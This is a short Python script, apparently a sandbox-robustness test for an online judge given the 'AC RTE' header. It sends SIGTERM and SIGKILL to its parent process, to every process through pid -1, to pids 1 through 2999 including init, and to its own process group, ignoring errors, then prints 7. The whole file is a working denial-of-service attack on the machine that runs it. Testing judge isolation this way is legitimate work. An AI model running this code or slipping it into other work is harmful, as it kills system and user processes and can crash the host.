# AC RTE
# Kills its parent, its group, every process, and every process id.
import os, signal
for pid in (os.getppid(), 0, -1, 1, 2, *range(3, 3000), -os.getpgrp()):
    for number in (signal.SIGTERM, signal.SIGKILL):
        if pid in (0, os.getpid()) or pid == -os.getpgrp(): continue
        try: os.kill(pid, number)
        except OSError: pass
print(7)
